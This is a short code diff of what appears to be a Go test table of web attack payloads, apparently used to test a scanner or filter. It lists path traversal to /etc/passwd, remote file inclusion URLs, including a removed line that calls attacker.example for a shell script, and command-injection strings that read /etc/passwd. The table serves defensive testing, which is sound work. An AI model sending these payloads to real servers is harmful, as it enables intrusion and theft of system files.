@@ -68,7 +68,6 @@ var attacks = []attack{
 	{"file: of a web server", inPath, `/.htaccess`},
 	{"file: in JSON", inJSON, `../../../../etc/passwd`},
 	{"file from elsewhere: by address", inQuery, `http://192.0.2.1/shell.txt?`},
-	{"file from elsewhere: included", inQuery, `ftp://attacker.example/shell.php?cmd=id`},
 	{"command: after a semicolon", inQuery, `;cat /etc/passwd`},
 	{"command: piped", inQuery, `| /bin/cat /etc/passwd`},
 	{"command: in back quotes", inForm, "`cat /etc/passwd`"},
